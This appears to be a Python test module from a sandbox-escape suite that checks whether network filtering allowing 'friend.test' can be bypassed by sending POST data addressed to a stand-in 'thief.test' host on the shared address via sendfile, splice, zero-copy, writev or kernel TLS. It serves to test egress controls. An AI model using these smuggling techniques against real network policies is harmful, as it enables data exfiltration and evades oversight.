# SPDX-License-Identifier: MIT
"""An address that an allowed name leads to, and a request for somebody else who is there too.

How the bytes get into the connection must not matter.
"""

from __future__ import annotations

import os
import socket
import tempfile
from collections.abc import Callable

from bypass.case import SHARED, Parcel, benign, case
from bypass.senders.streams import finish

_SO_ZEROCOPY, _MSG_ZEROCOPY = 60, 0x4000000
_TCP_ULP = 31
_named = {
    "to": SHARED,
    "friend": SHARED,
    "port": 80,
    "protocol": "tcp",
    "detour": True,
    "rule": "http://friend.test",
    "errors": ("EPERM", "EACCES", "ECONNABORTED", "ECONNRESET", "EPIPE"),
}
Write = Callable[[socket.socket, bytes], object]


def _request(host: str, size: int) -> bytes:
    return f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {size}\r\n\r\n".encode()


def _connected(parcel: Parcel) -> socket.socket:
    socket.getaddrinfo("friend.test", parcel.port)  # so that the address is known by its name
    return socket.create_connection((parcel.to, parcel.port))


def _foreign(parcel: Parcel, write: Write) -> None:
    """For another host at that address, all of it written by ``write``."""
    connection = _connected(parcel)
    write(connection, _request("thief.test", len(parcel.data)) + parcel.data)
    finish(connection)


def _own(parcel: Parcel, write: Write) -> None:
    """For the friend; as programs do it, only the body is written by ``write``."""
    connection = _connected(parcel)
    connection.sendall(_request("friend.test", len(parcel.data)))
    write(connection, parcel.data)
    finish(connection)


def _by_sendfile(connection: socket.socket, data: bytes) -> None:
    with tempfile.TemporaryFile() as file:
        file.write(data)
        file.flush()
        os.sendfile(connection.fileno(), file.fileno(), 0, len(data))


def _by_splice(connection: socket.socket, data: bytes) -> None:
    ours, theirs = os.pipe()
    os.write(theirs, data)
    os.splice(ours, connection.fileno(), len(data))


def _by_zerocopy(connection: socket.socket, data: bytes) -> None:
    connection.setsockopt(socket.SOL_SOCKET, _SO_ZEROCOPY, 1)
    connection.send(data, _MSG_ZEROCOPY)


def _by_parts(connection: socket.socket, data: bytes) -> None:
    os.writev(connection.fileno(), [data[:7], data[7:20], data[20:]])


def _declare(name: str, write: Write) -> None:
    case(f"{name}-elsewhere", twin=name, **_named)(lambda parcel: _foreign(parcel, write))
    benign(name)(lambda parcel: _own(parcel, write))


_declare("sendfile", _by_sendfile)
_declare("splice", _by_splice)
_declare("zerocopy", _by_zerocopy)
_declare("writev", _by_parts)


@case("ktls", twin="writev", absent="ENOENT", **_named)
def kernel_tls(parcel: Parcel) -> None:
    """The kernel encrypts: what is written is not what leaves."""
    connection = _connected(parcel)
    connection.setsockopt(socket.IPPROTO_TCP, _TCP_ULP, b"tls")
    finish(connection, parcel.data)
